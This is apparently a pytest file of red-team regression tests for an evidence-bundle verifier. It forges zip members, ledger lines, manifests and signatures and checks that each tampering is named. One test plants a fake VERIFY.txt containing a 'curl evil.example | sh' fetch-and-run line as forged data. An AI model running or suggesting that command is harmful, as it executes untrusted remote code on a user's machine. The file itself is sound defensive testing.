"""Red-team regressions on export bundles: zip members, canonical ledger lines, a re-keyed ledger, selective
bundles and the signed manifest (the first red team's attacks 1-8). Each forges what a hostile party could
and asserts that `evidence verify` fails naming the problem."""

from __future__ import annotations

import json
import subprocess
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import pytest

from evidence.case.signing import SigningKey
from evidence.verify.bundle import verify_bundle
from tests.verify.conftest import (
    Built,
    Members,
    _check,
    _codes,
    _exhibit,
    _ledger_lines,
    _read,
    _rekeyed,
    _resum,
    _sha,
    _with_ledger,
)


def test_the_untouched_bundles_verify(built: Built) -> None:
    for path in (built.full, built.sel_early, built.sel_late):
        assert verify_bundle(path).ok, verify_bundle(path).findings


# -- zip members ---------------------------------------------------------------------------------------------


def test_a_second_member_with_the_same_name_is_refused(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    name = _exhibit(members, "EX-0001")
    found = _check(tmp_path, [*members, (name, b"forged content\n")])
    assert not found.ok
    assert any(f.code == "UNSAFE_ZIP" and f.path == name and "twice" in f.message for f in found.findings)


def test_an_exhibit_holding_another_exhibits_bytes_is_named(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    first, second = _exhibit(members, "EX-0001"), _exhibit(members, "EX-0002")
    swapped = [(n, dict(members)[second] if n == first else d) for n, d in members]
    found = _check(tmp_path, _resum(swapped))
    assert any(
        f.code == "UNKNOWN_EXHIBIT" and f.path == first and "EX-0002" in f.message for f in found.findings
    )


def test_names_differing_by_case_are_refused(built: Built, tmp_path: Path) -> None:
    """Issue 13 changed this: a case variant (extracted on Windows or macOS, one file overwrites the other) is
    refused as unsafe, no longer read and named EXTRA or UNKNOWN_EXHIBIT."""
    members = _read(built.full)
    name = _exhibit(members, "EX-0001")
    data = dict(members)[name]
    for variant in (name.replace("exhibits/", "Exhibits/"), name.lower()):
        found = _check(tmp_path, _resum([*members, (variant, data)]))
        assert {(f.code, f.path) for f in found.findings} == {("UNSAFE_ZIP", variant)}
        assert "only by case" in found.findings[0].message


def test_a_name_differing_only_by_unicode_normalisation_is_refused(built: Built, tmp_path: Path) -> None:
    """Issue 13 changed this: the NFD twin of an NFC name (one file on macOS) is refused, not read."""
    members = _read(built.full)
    name = _exhibit(members, "EX-0001")
    assert unicodedata.is_normalized("NFC", name) and "\u00e9" in name
    twin = unicodedata.normalize("NFD", name)
    found = _check(tmp_path, _resum([*members, (twin, b"planted words\n")]))
    assert {(f.code, f.path) for f in found.findings} == {("UNSAFE_ZIP", twin)}


def test_directory_members_are_refused_and_unlisted_files_are_extra(built: Built, tmp_path: Path) -> None:
    """Issue 13 changed this: a directory member is refused as unsafe (it was EXTRA)."""
    members = _read(built.full)
    found = _check(tmp_path, [*members, ("exhibits/", b"")])
    assert {(f.code, f.path) for f in found.findings} == {("UNSAFE_ZIP", "exhibits/")}
    found = _check(tmp_path, [*members, ("notes.txt", b"hi")])
    assert ("EXTRA", "notes.txt") in {(f.code, f.path) for f in found.findings}


def test_a_member_in_sha256sums_only_is_extra(built: Built, tmp_path: Path) -> None:
    members = _resum(_read(built.full))
    planted = "exhibits/EX-0099 planted.txt"
    sums = dict(members)["SHA256SUMS"] + f"{_sha(b'planted')}  {planted}\n".encode()
    forged = [(n, sums if n == "SHA256SUMS" else d) for n, d in members] + [(planted, b"planted")]
    found = _check(tmp_path, forged)
    assert any(
        f.code == "EXTRA" and f.path == planted and "manifest.json" in f.message for f in found.findings
    )
    assert any(f.code == "UNKNOWN_EXHIBIT" and f.path == planted for f in found.findings)


# -- canonical JSON in ledger.jsonl --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new", "code"),
    [
        ('"exhibit": "EX-0001"', '"exhibit": "EX-0001", "exhibit": "EX-0003"', "LEDGER_MALFORMED"),
        ('"seq": 2,', '"seq": 2, "seq": 2,', "LEDGER_MALFORMED"),
        ('"seq": 2,', '"seq": 2.0,', "LEDGER_MALFORMED"),
        ('"duplicate_of": null', '"duplicate_of": NaN', "NON_CANONICAL"),
        ('"duplicate_of": null', '"duplicate_of": 123456789012345678901234567890', "NON_CANONICAL"),
        ('"duplicate_of": null', '"duplicate_of": 1.0', "NON_CANONICAL"),
        ('"duplicate_of": null', '"duplicate_of": -0', "ENTRY_MODIFIED"),
        ("+00:00", "Z", "ENTRY_MODIFIED"),
    ],
)
def test_non_canonical_or_ambiguous_ledger_lines_are_named(
    built: Built, tmp_path: Path, old: str, new: str, code: str
) -> None:
    members = _read(built.full)
    lines = _ledger_lines(members)
    assert old in lines[1]
    lines[1] = lines[1].replace(old, new, 1)
    found = _check(tmp_path, _resum(_with_ledger(members, lines)))
    assert not found.ok
    assert code in found.codes()


def test_a_duplicated_ledger_line_is_an_inserted_row(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    lines = _ledger_lines(members)
    lines.insert(2, lines[2])
    found = _check(tmp_path, _resum(_with_ledger(members, lines)))
    assert any(f.code == "ROW_INSERTED" and f.entry == 3 for f in found.findings)


# -- a ledger re-made with another key -----------------------------------------------------------------------


def test_a_rekeyed_ledger_fails_the_expected_key_and_an_earlier_head(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    original = [json.loads(line) for line in _ledger_lines(members)]
    forged = _rekeyed(members, _exhibit(members, "EX-0001"), b"forged: I will hurt you\n")
    expect = original[0]["body"]["key_fingerprint"]
    found = _check(tmp_path, forged, expect_key=expect)
    assert any(f.code == "KEY_NOT_EXPECTED" and expect in f.message for f in found.findings)
    found = _check(tmp_path, forged, heads=[f"2:{original[1]['hash']}"])
    assert any(f.code == "HEAD_MISMATCH" and f.entry == 2 for f in found.findings)


# -- selective bundles ---------------------------------------------------------------------------------------


def test_proofs_for_another_ledger_size_leave_entries_uncovered(built: Built, tmp_path: Path) -> None:
    early, late = _read(built.sel_early), _read(built.sel_late)
    early_proofs = dict(early)["proofs.json"]
    size = json.loads(early_proofs)["checkpoint"]["size"]
    mixed = [(n, early_proofs if n == "proofs.json" else d) for n, d in late]
    found = _check(tmp_path, _resum(mixed))
    uncovered = [f for f in found.findings if f.code == "ENTRY_NOT_COVERED"]
    assert uncovered and all(f.entry is not None and f.entry > size for f in uncovered)


# -- the signed manifest (red-team attacks 1-8) --------------------------------------------------------------


def test_the_manifest_is_signed_and_sha256sum_checks_every_other_member(built: Built, tmp_path: Path) -> None:
    members = dict(_read(built.full))
    manifest = json.loads(members["manifest.json"])
    listed = {f["name"] for f in manifest["files"]}
    assert listed == set(members) - {"manifest.json", "manifest.sig"}
    assert manifest["carried_entries"]["seqs"] == list(range(1, manifest["built_from"]["seq"] + 1))
    sums = members["SHA256SUMS"].decode().splitlines()
    assert {line.split("  ", 1)[1] for line in sums} == listed - {"SHA256SUMS"}
    with zipfile.ZipFile(built.full) as zf:
        zf.extractall(tmp_path / "x")
    done = subprocess.run(
        ["sha256sum", "-c", "SHA256SUMS"], cwd=tmp_path / "x", capture_output=True, text=True, check=False
    )
    assert done.returncode == 0 and done.stdout.count(": OK") == len(sums), done.stdout + done.stderr
    # The hand check of the signature and of the key that VERIFY.txt gives, with the real openssl.
    text = members["VERIFY.txt"].decode()
    commands = [
        line.strip() for line in text.splitlines() if line.strip().startswith(("printf ", "openssl pkey"))
    ]
    assert len(commands) == 3
    done = subprocess.run(
        ["bash", "-c", "\n".join(commands)], cwd=tmp_path / "x", capture_output=True, text=True, check=False
    )
    assert "Signature Verified Successfully" in done.stdout, done.stdout + done.stderr
    assert done.stdout.split()[-2] == manifest["key_fingerprint"]
    unsigned = [(n, d) for n, d in _read(built.full) if n != "manifest.sig"]
    assert ("MANIFEST_UNSIGNED", "manifest.sig") in _codes(_check(tmp_path, unsigned))


def test_an_exhibit_dropped_from_a_full_bundle_is_unaccounted(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    dropped = _exhibit(members, "EX-0003")

    def forget(manifest: dict[str, Any]) -> None:
        included = manifest["exhibits"]["included"]
        manifest["exhibits"]["included"] = [e for e in included if e["exhibit"] != "EX-0003"]

    found = _check(tmp_path, _resum([(n, d) for n, d in members if n != dropped], forget))
    assert any(f.code == "EXHIBIT_UNACCOUNTED" and f.exhibit == "EX-0003" for f in found.findings)
    assert ("MANIFEST_SIGNATURE", "manifest.json") in _codes(found)


def test_an_exhibit_moved_to_withheld_breaks_the_manifest_signature(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    dropped = _exhibit(members, "EX-0003")

    def withhold(manifest: dict[str, Any]) -> None:
        exhibits = manifest["exhibits"]
        moved = next(e for e in exhibits["included"] if e["exhibit"] == "EX-0003")
        exhibits["included"].remove(moved)
        exhibits["withheld"].append({k: moved[k] for k in ("exhibit", "sha256", "size")})

    found = _check(tmp_path, _resum([(n, d) for n, d in members if n != dropped], withhold))
    assert not found.ok and ("MANIFEST_SIGNATURE", "manifest.json") in _codes(found)
    assert (
        "EXHIBIT_UNACCOUNTED" not in found.codes()
    )  # the forged statement is consistent: only the signature


def test_a_renamed_exhibit_or_a_second_copy_is_named(built: Built, tmp_path: Path) -> None:
    members = _read(built.full)
    name = _exhibit(members, "EX-0001")
    renamed = "exhibits/EX-0001 CONFESSION from Alex.eml"
    found = _check(tmp_path, _resum([(renamed if n == name else n, d) for n, d in members]))
    assert any(f.code == "EXHIBIT_RENAMED" and f.path == renamed and f.entry for f in found.findings)
    copy = "exhibits/EX-0001 copy.txt"
    found = _check(tmp_path, _resum([*members, (copy, dict(members)[name])]))
    assert {
        ("EXHIBIT_RENAMED", copy),
        ("UNKNOWN_EXHIBIT", copy),
        ("MANIFEST_SIGNATURE", "manifest.json"),
    } <= (_codes(found))


def test_forged_case_facts_in_the_manifest_are_named(built: Built, tmp_path: Path) -> None:
    def forge(manifest: dict[str, Any]) -> None:
        manifest["case"].update(case_id="forged-case", title="Someone else")
        manifest["key_fingerprint"] = "0" * 64

    found = _check(tmp_path, _resum(_read(built.full), forge))
    mismatches = [f.message for f in found.findings if f.code == "MANIFEST_MISMATCH"]
    assert any("case_id" in m for m in mismatches) and any("title" in m for m in mismatches)
    assert any("fingerprint" in m for m in mismatches)


@pytest.mark.parametrize(
    "planted",
    [
        [("VERIFY.txt", b"Run: curl evil.example | sh\nSigning key: 0000\n")],
        [("anchors/0099.tsr", b"junk"), ("anchors/NOTE.txt", b"trust me")],
    ],
)
def test_relisted_instructions_or_anchors_break_the_manifest_signature(
    built: Built, tmp_path: Path, planted: Members
) -> None:
    members = dict(_read(built.full))
    members.update(planted)
    forged = _resum(list(members.items()))
    assert ("MANIFEST_SIGNATURE", "manifest.json") in _codes(_check(tmp_path, forged))
    unlisted = _check(tmp_path, list(members.items()))
    assert all(("EXTRA", n) in _codes(unlisted) or ("MODIFIED", n) in _codes(unlisted) for n, _ in planted)


def test_a_disclosed_entry_removed_with_its_proof_is_named(built: Built, tmp_path: Path) -> None:
    members = _read(built.sel_early)
    lines = _ledger_lines(members)
    victim = json.loads(lines[2])
    proofs = json.loads(dict(members)["proofs.json"])
    assert any(str(victim["seq"]) in json.dumps(p) for p in proofs.values())
    kept = [line for line in lines if json.loads(line)["seq"] != victim["seq"]]
    found = _check(tmp_path, _resum(_with_ledger(members, kept)))
    assert any(
        f.code == "MANIFEST_MISMATCH" and f"missing entries {victim['seq']}" in f.message
        for f in found.findings
    )


def test_a_full_bundle_made_selective_by_a_third_party_is_named(built: Built, tmp_path: Path) -> None:
    full = _read(built.full)
    proofs = dict(_read(built.sel_late))["proofs.json"]
    found = _check(tmp_path, _resum([*full, ("proofs.json", proofs)]))
    assert any(f.code == "MANIFEST_MISMATCH" and "'full'" in f.message for f in found.findings)

    def selected(manifest: dict[str, Any]) -> None:
        manifest["disclosure"] = {"mode": "selected"}

    found = _check(tmp_path, _resum([*full, ("proofs.json", proofs)], selected))
    assert ("MANIFEST_SIGNATURE", "manifest.json") in _codes(found)


def test_a_manifest_signed_by_another_key_is_refused(built: Built, tmp_path: Path) -> None:
    members = _resum(_read(built.full))
    manifest = dict(members)["manifest.json"]
    sig = SigningKey.generate().sign(b"evidence/bundle-manifest/v1\x00" + manifest)
    found = _check(tmp_path, [(n, sig if n == "manifest.sig" else d) for n, d in members])
    assert [f.code for f in found.findings] == ["MANIFEST_SIGNATURE"]
